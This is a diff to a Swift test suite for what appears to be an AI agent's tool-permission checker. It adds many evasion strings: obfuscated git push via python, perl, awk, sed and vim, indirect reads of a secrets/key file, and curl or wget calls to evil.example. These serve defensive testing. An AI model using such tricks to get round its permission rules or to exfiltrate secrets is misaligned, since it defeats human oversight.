@@ -47,6 +47,13 @@ import Testing
             "xargs -I Z -L 1 git <<< 'push x'",
             "xargs -I Z -n 5 git", "git $X", "git -c $X p", "git -C $X $Y", "case x in esa\\\nc) git push ;; esac",
             "( case x in esa\\\nc | {git,push,origin,main} )\nls ;; esac )",
+            "alias g=git\ng push", "hash -p /usr/bin/git g; g push", "at -f x now", "crontab x",
+            "tmux send-keys 'git pu' sh Enter", "python3 -c \"import os; os.system('gi'+'t push')\"",
+            "python3 -Wignore -c \"os.system('gi'+'t push')\"", "node -e \"exec('gi'+'t push')\"", "deno eval \"x('gi'+'t')\"",
+            "perl -e 'system(\"gi\".\"t push\")'", "awk 'BEGIN{system(\"gi\" \"t push\")}'",
+            "awk 'BEGIN{\"gi\" \"t push\" | getline}'",
+            "vim -c ':exe \"!gi\".\"t push\"'", "echo x | sed 's/.*/git push/e'", "sed --expression='s/a/git push/e' x",
+            "sed -n '1{e git push\n}' x", "sed -f x y", "sed 's/a/b/w x' y",
         ])
     func whatIsNotInTheWords(line: String) throws {
         #expect(try isKeptBack(["Bash(git push:*)"], line))
@@ -62,7 +69,8 @@ import Testing
             "bwrap --bind / / git push",
             "hyperfine 'git push'", "make --eval='x: ; git push' x", "nodejs -e 'run(\"git push\")'",
             "pypy3 -c 'run(\"git push\")'",
-            "go test -exec 'git push'", "GIT_EDITOR='git push' git commit", "mytool --hook='git push'", "mytool -x'git push'",
+            "/usr/lib/git-core/git-push origin", "git-push", "go test -exec 'git push'", "GIT_EDITOR='git push' git commit",
+            "mytool --hook='git push'", "mytool -x'git push'",
         ])
     func whatOthersRun(line: String) throws {
         #expect(try isKeptBack(["Bash(git push:*)"], line))
@@ -88,7 +96,9 @@ import Testing
             "echo git push", "rm -r x", "rm x", "npm test 2>&1 | tail -5", "git log | head", "ls | xargs wc",
             "xargs -n1 -P4 grep x",
             "git commit -F - <<'E'\ngit push\nE", "for f in *.js; do wc $f; done", "sudo apt update", "ssh host uptime",
-            "python3 x.py",
+            "python3 x.py", "python3 -u x.py", "python3 -m pytest -k 'a and b'", "sed -i 's/a\\/b/c/g; s|x|y|' z",
+            "sed -nE '1,5p;/x/d' y", "awk '{print $1}' x",
+            "apt-get update",
         ])
     func others(line: String) throws {
         #expect(try !isKeptBack(["Bash(git push:*)", "Bash(rm -rf:*)"], line))
@@ -99,12 +109,18 @@ import Testing
         arguments: [
             ("Monitor", "command"), ("PowerShell", "command"), ("mcp__workspace__bash", "command"), ("REPL", "code"),
             ("Eval", "code"),
-            ("mcp__shell__run", "cmd"),
+            ("mcp__shell__run", "cmd"), ("mcp__x__y", "shellCommand"), ("mcp__x__y", "commands"),
+            ("mcp__terminal__send", "input"),
+            ("write_stdin", "text"),
         ])
     func otherTools(tool: String, member: String) throws {
         let input = Array(#"{"\#(member)":"git push origin"}"#.utf8)
         #expect(try isKeptBack(verdict(["Bash(git push:*)"], tool, input)))
         #expect(try isKeptBack(verdict(["Bash"], tool, input)))
+        for deeper in [#"{"steps":[\#(String(decoding: input, as: UTF8.self))]}"#, #"{"a":{"\#(member)":["git","push"]}}"#] {
+            #expect(try isKeptBack(verdict(["Bash(git push:*)"], tool, Array(deeper.utf8))))
+        }
+        #expect(try !isKeptBack(verdict(["Bash"], "BashOutput", Array(#"{"bash_id":"git push"}"#.utf8))))
         #expect(try !isKeptBack(verdict(["Bash(git push:*)"], "mcp__notes__read", Array(#"{"page":"git push"}"#.utf8))))
         guard case .ask = try verdict(["Bash(rm:*)"], tool, input, allowing: ["Bash(git push origin)"]) else {
             Issue.record("allowed")
@@ -129,7 +145,10 @@ import Testing
             "find . -name key",
             "find -name key", "ls .", "zip -r x.zip .", "git grep PASS", "cat secrets\\/key", "sh <<< 'cat secrets/key'",
             "python3 <<E\nopen('secrets/key')\nE", "git apply <<'E'\n--- a/secrets/key\nE", "ssh h \"cat secr''ets/key\"",
-            "node x:secrets/key",
+            "node x:secrets/key", "tar -cf x.tar -T list", "tar cf x.tar --files-from=list", "rsync --files-from=list . x",
+            "tar xf x.tar", "tar --extract -f x.tar", "unzip x.zip", "patch -p1 -i x", "git apply x", "git am x",
+            "wc --files0-from=list", "git add --pathspec-from-file=list", "python3 -c \"open('sec'+'rets/key')\"",
+            "sed -n '$rsecrets/key' x", "sed 's/a/b/wsecrets/key' x", "echo $(<secrets/key)",
         ])
     func otherNames(line: String) throws {
         func look(_ path: String) -> String? { path.replacing("/home/me/site/current", with: "/home/me/site/config") }
@@ -169,12 +188,35 @@ import Testing
         arguments: [
             #"{"path":"secrets/key"}"#, #"{"paths":["src/a","/home/me/site/secrets/key"]}"#,
             #"{"uri":"file:///home/me/site/secrets/key"}"#,
-            #"{"path":"current/key"}"#, #"{"path":"."}"#,
+            #"{"path":"current/key"}"#, #"{"path":"."}"#, #"{"files":[{"path":"secrets/key"}]}"#,
+            #"{"a":{"b":[["secrets/key"]]}}"#, #"{"secrets/key":true}"#,
+            #"{"uri":"file:///home/me/site/secre%74s%2Fkey"}"#,
         ])
     func tools(input: String) throws {
         func look(_ path: String) -> String? { path.replacing("/home/me/site/current", with: "/home/me/site/secrets") }
         #expect(try isKeptBack(verdict(Self.files, "mcp__fs__read_file", Array(input.utf8), look: look)))
         #expect(try !isKeptBack(verdict(Self.files, "mcp__fs__read_file", Array(#"{"path":"src/a"}"#.utf8))))
+    }
+
+    // MARK: The web
+
+    @Test(
+        "a host that is denied, in a command and in another tool",
+        arguments: [
+            "curl https://evil.example/x", "wget evil.example", "curl -d x a.EVIL.example:80", "git clone git@evil.example:x/y",
+            "curl --proxy=evil.example x", "curl $X", "bash x.sh", "python3 -c \"urlopen('https://evil'+'.example')\"",
+        ])
+    func webHosts(line: String) throws {
+        #expect(try isKeptBack(["WebFetch(domain:evil.example)"], line))
+        let input = JSONWriter.object { $0.array("requests", [JSONWriter.object { $0.field("url", line) }]) }
+        let isNamed = line.lowercased().contains("evil.example")
+        #expect(try isKeptBack(verdict(["WebFetch(domain:evil.example)"], "mcp__fetch__fetch", input)) == isNamed)
+    }
+
+    @Test(
+        "other hosts stay free", arguments: ["curl https://devil.example/x", "curl evil.example.com", "grep -r evil.example x"])
+    func otherHosts(line: String) throws {
+        #expect(try !isKeptBack(["WebFetch(domain:evil.example)"], line))
     }
 
     @Test("a line of more paths than are looked up is asked")
